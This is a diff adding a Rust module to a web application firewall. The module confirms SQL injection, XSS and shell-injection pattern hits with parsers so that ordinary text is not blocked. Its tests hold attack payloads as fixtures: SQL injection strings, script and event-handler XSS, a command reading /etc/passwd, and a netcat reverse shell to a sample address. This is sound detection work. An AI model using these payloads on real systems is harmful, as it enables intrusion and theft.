@@ -1,0 +1,118 @@
+//! Semantic confirmation: a pattern hit of an injection family scores in full only when a parser of that
+//! family's language finds an injection in the value.
+//!
+//! CRS's regexes look for the words and punctuation of attacks, and ordinary text has them too: a review with
+//! an apostrophe and the word "select", a forum post that shows a shell command, JSON carried inside a JSON
+//! string. ModSecurity scores every such hit, which is why it refuses about one legitimate request in seven on
+//! real traffic. Here a rule of the SQL injection, XSS and command execution families (by its `attack-*` tag,
+//! or its `confirm:` field) hands the value it matched to the parser of its language:
+//!
+//! - [`sql`]: libinjection's SQL tokenizer and fingerprints, which read the value as the rest of a query after
+//!   the point where it is inserted (as is, after a single quote, after a double quote);
+//! - [`xss`]: libinjection's HTML5 tokenizer, in each context a value can land in (text, attribute values);
+//! - [`shell`]: a small command-line lexer: a known command in command position (after `;`, `|`, `&`, a
+//!   newline, inside `$(...)` or backquotes, or heading the value) with arguments shaped as a command's.
+//!
+//! Each reads the value as received and its decoded forms (URL, HTML entity and JavaScript escapes undone,
+//! repeatedly, as an application or a browser may), plus the form the rule's own transforms made. A hit no
+//! parser confirms stays in the verdict, marked unconfirmed, and adds nothing to the anomaly score: logged,
+//! shown by `rulec explain`, never blocking on its own. The parsers run only on values a pattern already hit, so
+//! a clean request pays nothing.
+
+mod decode;
+mod shape;
+pub use shape::Shape;
+mod shell;
+mod sql;
+mod xss;
+
+use crate::compile::rule::Confirm;
+use crate::evaluate::transform::UnicodeMap;
+use std::borrow::Cow;
+
+/// What a confirmer said of a hit.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Confirmation {
+    pub confirmed: bool,
+    /// Why, for logs and `rulec explain`: what the parser found (a fingerprint, a tag, a command), or what it
+    /// looked for and did not find.
+    pub reason: String,
+}
+
+/// Runs the `confirm` parser on the value a rule matched: `raw` as the request carried it, `transformed` after the
+/// rule's transforms.
+pub fn confirm(confirm: Confirm, raw: &[u8], transformed: &[u8], map: UnicodeMap) -> Confirmation {
+    let mut forms: Vec<Cow<'_, [u8]>> = decode::forms(raw, map);
+    if !forms.iter().any(|form| form.as_ref() == transformed) {
+        forms.push(Cow::Borrowed(transformed));
+    }
+    // Only data needs a parser's word; a fragment of no other shape scores as its pattern says. The shape is the
+    // value's as the application receives it: decoding it further is a guess, which finds injections, not data.
+    let shape = shape::data_shape(raw);
+    let Some(shape) = shape.filter(|shape| confirm != Confirm::Code || *shape != Shape::Token) else {
+        return Confirmation {
+            confirmed: true,
+            reason: "a fragment, not data: scored as the pattern says".to_owned(),
+        };
+    };
+    let found = match confirm {
+        Confirm::Sql => forms.iter().find_map(|form| sql::injection(form)),
+        Confirm::Xss => forms.iter().find_map(|form| xss::injection(form)),
+        Confirm::Shell => forms.iter().find_map(|form| shell::injection(form)),
+        Confirm::Code | Confirm::None => None,
+    };
+    match found {
+        Some(reason) => Confirmation {
+            confirmed: true,
+            reason,
+        },
+        None => Confirmation {
+            confirmed: false,
+            reason: format!(
+                "{}, and {}",
+                shape.describe(),
+                match confirm {
+                    Confirm::Sql => "no SQL injection fingerprint in any quote context",
+                    Confirm::Xss => "no script, event handler or scripting URL in any HTML context",
+                    Confirm::Shell => "no command line where an argument can end",
+                    Confirm::Code | Confirm::None => "no parser of the language to find code there",
+                }
+            ),
+        },
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn confirmed(kind: Confirm, value: &str) -> bool {
+        confirm(kind, value.as_bytes(), value.as_bytes(), UnicodeMap::default()).confirmed
+    }
+
+    #[test]
+    fn injections_are_confirmed_in_their_encodings() {
+        assert!(confirmed(Confirm::Sql, "1' or '1'='1"));
+        assert!(confirmed(Confirm::Sql, "1%27%20or%20%271%27%3D%271"));
+        assert!(confirmed(Confirm::Sql, "1%2527%2520union%2520select%2520password%2520from%2520users--"));
+        assert!(confirmed(Confirm::Xss, "<script>alert(1)</script>"));
+        assert!(confirmed(Confirm::Xss, "&lt;img src=x onerror=alert(1)&gt;"));
+        assert!(confirmed(Confirm::Xss, "\\u003csvg onload=alert(1)\\u003e"));
+        assert!(confirmed(Confirm::Shell, "127.0.0.1; cat /etc/passwd"));
+        assert!(confirmed(Confirm::Shell, "x|nc 10.0.0.1 4444 -e /bin/sh"));
+        // A fragment of no data shape scores as its pattern says.
+        assert!(confirmed(Confirm::Sql, "database ("));
+    }
+
+    #[test]
+    fn ordinary_text_is_not() {
+        assert!(!confirmed(Confirm::Sql, "Please select the size you'd like from the drop-down"));
+        assert!(!confirmed(Confirm::Sql, r#"{"filters":[{"field":"price","op":">","value":10}]}"#));
+        assert!(!confirmed(Confirm::Xss, "Tom & Jerry <3 the new season, we watched it twice"));
+        assert!(!confirmed(
+            Confirm::Xss,
+            r#"<p>Merci <span style="color: #e03e2d;">beaucoup</span> pour la livraison</p>"#
+        ));
+        assert!(!confirmed(Confirm::Shell, "Tom & Jerry; cat lovers will like it"));
+    }
+}
